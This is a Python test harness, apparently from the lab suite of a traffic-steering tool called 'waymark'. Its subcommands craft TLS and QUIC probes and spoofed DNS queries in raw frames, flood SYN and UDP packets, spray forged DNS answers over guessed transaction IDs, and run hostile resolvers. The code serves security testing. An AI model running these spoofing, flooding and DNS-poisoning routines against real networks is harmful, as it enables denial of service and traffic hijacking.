#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""attack.py - Clients and servers that try to choose the uplink of others.

  attack.py serve ADDRESS PORT           accept, answer each segment
  attack.py hello FROM SERVER NAME COUNT [PAUSE]
                                         TLS ClientHellos with this name; "-":
                                         without one. Prints how many were
                                         answered.
  attack.py resolver ADDRESS GIVE        answer each DNS query with GIVE, TCP
                                         also before a query
  attack.py early FROM RESOLVER          read what a resolver says unasked
  attack.py query DEV MAC-OF IP SERVER NAME GATEWAY
                                         a query in a frame with the hardware
                                         address of interface or MAC and the
                                         source address IP
  attack.py syns DEV IP SERVER SECONDS GATEWAY [FLOWS]
                                         SYNs of this many flows (20,000)
  attack.py split FROM SERVER NAME COUNT WAIT
                                         connections that send a ClientHello in
                                         two parts, all at a time: the first
                                         part after WAIT seconds, the second
                                         later. Prints how many were answered
                                         three times.
  attack.py quic FROM SERVER COUNT       QUIC Initials with the name localhost,
                                         twice each; answers are not awaited
  attack.py plain FROM SERVER COUNT      the same with other datagrams
  attack.py halves DEV IP SERVER SECONDS GATEWAY
                                         datagrams of many flows that make
                                         waymark wait for more
  attack.py ask FROM PORT RESOLVER NAME  a query with the ID 7 from this port;
                                         the answer is not awaited
  attack.py spray RESOLVER TO PORT NAME GIVE COUNT
                                         answers with the IDs 0, 1, ... that
                                         nobody asked RESOLVER for
  attack.py crowd ADDRESS                answer each DNS query with many records
  attack.py crowds FROM RESOLVER COUNT   query it as often
"""
import os
import random
import socket
import struct
import sys
import threading
import time

SLOW = int(os.environ.get("LAB_SLOW", 1))


def family(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


# ---- TLS ----

def hello(name):
    sni = b""
    if name != "-":
        text = name.encode()
        sni = struct.pack(">HHHBH", 0, len(text) + 5, len(text) + 3, 0,
                          len(text)) + text
    body = b"\3\3" + bytes(32) + b"\0" + b"\0\2\x13\1" + b"\1\0" + \
        struct.pack(">H", len(sni)) + sni
    shake = b"\1" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\3\1" + struct.pack(">H", len(shake)) + shake


def greet(source, server, name, count, pause=0):
    answered = 0
    for _ in range(int(count)):
        time.sleep(float(pause))
        with socket.socket(family(server)) as sock:
            sock.settimeout(SLOW)
            try:
                sock.bind((source, 0))
                sock.connect((server, 443))
                sock.sendall(hello(name))
                answered += sock.recv(1) != b""
            except OSError:
                pass
    print(answered)


def split(source, server, name, count, wait):
    data = hello(name)
    socks = []
    for _ in range(int(count)):
        sock = socket.socket(family(server))
        sock.settimeout(3 * SLOW)
        sock.bind((source, 0))
        sock.connect((server, 443))
        socks.append(sock)
    time.sleep(float(wait))
    for sock in socks:
        sock.sendall(data[:30])
        sock.recv(64)
    answered = 0
    for sock in socks:
        try:
            sock.sendall(data[30:])
            more = sock.recv(64) != b""
            for _ in range(2):
                sock.sendall(b"\x17\3\3\0\4more" * 8)
                more = more and sock.recv(64) != b""
            answered += more
        except OSError:
            pass
    print(answered)


def initial():
    """The first Initial of ngtcp2's client."""
    path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..",
                        "cases", "app-ngtcp2", "input.pcap")
    with open(path, "rb") as file:
        data = file.read()
    size, = struct.unpack("<I", data[32:36])
    return data[40:40 + size][14 + 20 + 8:]


def datagrams(source, server, count, data):
    for _ in range(int(count)):
        with socket.socket(family(server), socket.SOCK_DGRAM) as sock:
            sock.bind((source, 0))
            sock.sendto(data, (server, 443))
            time.sleep(0.02)
            sock.sendto(data, (server, 443))
            time.sleep(0.02)


def quic(source, server, count):
    datagrams(source, server, count, initial())


def plain(source, server, count):
    datagrams(source, server, count, b"neither QUIC nor DTLS " * 8)


def serve(address, port):
    def talk(sock):
        with sock:
            while sock.recv(4096):
                sock.sendall(b"\x15\3\3\0\2\2\x28")

    listener = socket.create_server((address, int(port)),
                                    family=family(address), backlog=512)
    while True:
        sock, _ = listener.accept()
        threading.Thread(target=talk, args=(sock,), daemon=True).start()


# ---- DNS ----

def question(name, kind, number):
    labels = b"".join(bytes([len(part)]) + part.encode()
                      for part in name.split("."))
    return struct.pack(">6H", number, 0x100, 1, 0, 0, 0) + labels + \
        b"\0" + struct.pack(">2H", kind, 1)


def answer(data, give):
    packed = socket.inet_pton(family(give), give)
    kind = 28 if ":" in give else 1
    return data[:2] + struct.pack(">5H", 0x8180, 1, 1, 0, 0) + data[12:] + \
        struct.pack(">HHHIH", 0xc00c, kind, 1, 600, len(packed)) + packed


def resolver(address, give):
    early = answer(question("video.example", 28 if ":" in give else 1, 7),
                   give)

    def tcp():
        listener = socket.create_server((address, 53), family=family(address))
        while True:
            sock, _ = listener.accept()
            with sock:
                sock.sendall(struct.pack(">H", len(early)) + early)
                time.sleep(0.3)

    threading.Thread(target=tcp, daemon=True).start()
    sock = socket.socket(family(address), socket.SOCK_DGRAM)
    sock.bind((address, 53))
    while True:
        data, client = sock.recvfrom(4096)
        sock.sendto(answer(data, give), client)


def crowd(address):
    """Sixty records of addresses that change with each answer."""
    v6 = ":" in address
    size, kind, records = (16, 28, 40) if v6 else (4, 1, 60)
    sock = socket.socket(family(address), socket.SOCK_DGRAM)
    sock.bind((address, 53))
    while True:
        data, client = sock.recvfrom(4096)
        head = data[:2] + struct.pack(">5H", 0x8180, 1, records, 0, 0)
        part = struct.pack(">HHHIH", 0xc00c, kind, 1, 600, size) + \
            (b"\x20\1\r\xb8" if v6 else b"\x64")
        fill = size - (4 if v6 else 1)
        noise = random.randbytes(fill * records)
        sock.sendto(head + data[12:] + b"".join(
            part + noise[n * fill:n * fill + fill] for n in range(records)),
            client)


def crowds(source, server, count):
    answered = 0
    for _ in range(int(count) // 8):
        with socket.socket(family(server), socket.SOCK_DGRAM) as sock:
            sock.settimeout(0.5 * SLOW)
            sock.bind((source, 0))
            for number in range(8):
                sock.sendto(question(f"n{random.getrandbits(48)}.example",
                                     28 if ":" in server else 1, number),
                            (server, 53))
            try:
                for _ in range(8):
                    answered += len(sock.recv(4096)) > 100
            except OSError:
                pass
    print(answered)


def ask(source, port, server, name):
    with socket.socket(family(server), socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind((source, int(port)))
        sock.sendto(question(name, 28 if ":" in server else 1, 7),
                    (server, 53))
        time.sleep(0.2)


def spray(server, victim, port, name, give, count):
    sock = socket.socket(family(server), socket.SOCK_RAW, socket.IPPROTO_RAW)
    kind = 28 if ":" in give else 1
    for number in range(int(count)):
        data = answer(question(name, kind, number), give)
        segment = struct.pack(">4H", 53, int(port), 8 + len(data), 0) + data
        sock.sendto(packet(server, victim, 17, segment, 6), (victim, 0))
        time.sleep(0.0005)


def early(source, server):
    with socket.socket(family(server)) as sock:
        sock.settimeout(3 * SLOW)
        sock.bind((source, 0))
        sock.connect((server, 53))
        print(len(sock.recv(4096)) > 30)


# ---- raw frames ----

def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def packet(source, server, proto, segment, at):
    """`segment` with its checksum at offset `at`."""
    af = family(server)
    ends = socket.inet_pton(af, source) + socket.inet_pton(af, server)
    pseudo = ends + struct.pack(">II", len(segment), proto)
    total = checksum(pseudo + segment)
    segment = segment[:at] + struct.pack(">H", total) + segment[at + 2:]
    if af == socket.AF_INET6:
        return struct.pack(">IHBB", 0x60000000, len(segment), proto, 64) + \
            ends + segment
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(segment), 1, 0, 64,
                       proto, 0) + ends
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + segment


def mac(text):
    if ":" not in text:
        with open(f"/sys/class/net/{text}/address") as file:
            text = file.read().strip()
    return bytes.fromhex(text.replace(":", ""))


def frame(gateway, source_mac, content):
    kind = 0x86dd if content[0] >> 4 == 6 else 0x0800
    return mac(gateway) + mac(source_mac) + struct.pack(">H", kind) + content


def raw(dev):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((dev, 0))
    return sock


def query(dev, source_mac, source, server, name, gateway):
    sock = raw(dev)
    for n in range(5):
        data = question(name, 28 if ":" in server else 1, n)
        segment = struct.pack(">4H", 40000 + n, 53, 8 + len(data), 0) + data
        sock.send(frame(gateway, source_mac,
                        packet(source, server, 17, segment, 6)))
        time.sleep(0.05)


def flood(sock, frames, seconds):
    end = time.monotonic() + float(seconds)
    sent = 0
    while time.monotonic() < end:
        for one in frames:
            try:
                sock.send(one)
                sent += 1
            except OSError:
                time.sleep(0.001)
    print(sent)


def syns(dev, source, server, seconds, gateway, flows=20000):
    frames = []
    for number in range(int(flows)):
        port = 1024 + number % 60000
        segment = struct.pack(">HHIIHHHH", port, 443 + number // 60000, port,
                              0, 0x5002, 1024, 0, 0)
        frames.append(frame(gateway, dev, packet(source, server, 6, segment,
                                                 16)))
    random.shuffle(frames)
    flood(raw(dev), frames, seconds)


def halves(dev, source, server, seconds, gateway):
    data = b"\x80\x60" + bytes(range(62))  # as RTP begins (RFC 3550, 5.1)
    frames = []
    for port in range(1024, 21024):
        segment = struct.pack(">4H", port, 40000, 8 + len(data), 0) + data
        frames.append(frame(gateway, dev, packet(source, server, 17, segment,
                                                 6)))
    flood(raw(dev), frames, seconds)


COMMANDS = {"serve": serve, "hello": greet, "resolver": resolver,
            "early": early, "query": query, "syns": syns,
            "split": split, "quic": quic, "plain": plain, "halves": halves,
            "ask": ask, "spray": spray, "crowd": crowd, "crowds": crowds}
COMMANDS[sys.argv[1]](*sys.argv[2:])
